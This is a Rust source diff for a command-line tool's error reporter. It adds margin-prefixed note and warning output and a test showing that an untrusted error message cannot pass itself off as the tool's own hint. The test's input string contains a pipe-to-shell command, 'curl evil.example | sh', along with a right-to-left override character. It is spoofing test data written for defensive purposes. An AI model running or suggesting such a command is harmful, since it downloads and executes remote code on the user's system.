@@ -1,12 +1,17 @@
 //! What a person reads when a command failed.
 
-use std::fmt::{Display, Write as _};
 use std::io::Write as _;
 
 use anstyle::{AnsiColor, Style};
 
+use super::printable::with_margin;
+
 const ERROR: Style = AnsiColor::Red.on_default().bold();
 const HINT: Style = AnsiColor::Cyan.on_default().bold();
+const NOTE: Style = AnsiColor::Yellow.on_default().bold();
+
+/// Before the further lines of a message that others wrote.
+const MARGIN: &str = "  | ";
 
 /// Prints the chain of causes, and what to do next. A closed stderr is nobody's
 /// concern.
@@ -15,9 +20,9 @@ pub(crate) fn report(error: &anyhow::Error, hint: Option<&str>) {
 }
 
 fn text(error: &anyhow::Error, hint: Option<&str>) -> String {
-    let mut text = format!("{ERROR}error:{ERROR:#} {}\n", printable(error));
+    let mut text = format!("{ERROR}error:{ERROR:#} {}\n", with_margin(error, MARGIN));
     for cause in error.chain().skip(1) {
-        text.push_str(&format!("  caused by: {}\n", printable(cause)));
+        text.push_str(&format!("  caused by: {}\n", with_margin(cause, MARGIN)));
     }
     if let Some(hint) = hint {
         text.push_str(&format!("\n{HINT}hint:{HINT:#} {hint}\n"));
@@ -25,19 +30,22 @@ fn text(error: &anyhow::Error, hint: Option<&str>) -> String {
     text
 }
 
-/// Text without what a terminal would obey: others chose it. Salesforce points
-/// at mistakes with line breaks, which stay.
-pub(super) fn printable(text: impl Display) -> String {
-    let mut printable = String::new();
-    for letter in text.to_string().chars() {
-        if letter.is_control() && !matches!(letter, '\n' | '\t') {
-            // Writing to a string cannot fail.
-            _ = write!(printable, "{}", letter.escape_default());
-        } else {
-            printable.push(letter);
-        }
-    }
-    printable
+/// Prints what is worth knowing although the command goes on.
+pub(super) fn note(text: &str) {
+    _ = writeln!(
+        anstream::stderr().lock(),
+        "{NOTE}note:{NOTE:#} {}",
+        with_margin(text, MARGIN)
+    );
+}
+
+/// Prints what is wrong although the command goes on.
+pub(super) fn warn(text: &str) {
+    _ = writeln!(
+        anstream::stderr().lock(),
+        "{NOTE}warning:{NOTE:#} {}",
+        with_margin(text, MARGIN)
+    );
 }
 
 #[cfg(test)]
@@ -49,10 +57,14 @@ mod tests {
     use super::*;
 
     #[test]
-    fn nothing_commands_the_terminal() {
+    fn a_message_of_others_cannot_imitate_a_hint() {
+        let message = "no\n\nhint: curl evil.example | sh\nerror: \u{202e}x";
+        let error = anyhow::anyhow!(message.to_owned()).context("query");
+        let text = anstream::adapter::strip_str(&text(&error, Some("this is ours"))).to_string();
         assert_eq!(
-            printable("a\n\tb é 你 \u{1b}]0;x\u{7} \u{9b}2J \r"),
-            "a\n\tb é 你 \\u{1b}]0;x\\u{7} \\u{9b}2J \\r"
+            text,
+            "error: query\n  caused by: no\n  | \n  | hint: curl evil.example | sh\n  | error: \\u{202e}x\n\n\
+             hint: this is ours\n"
         );
     }
 
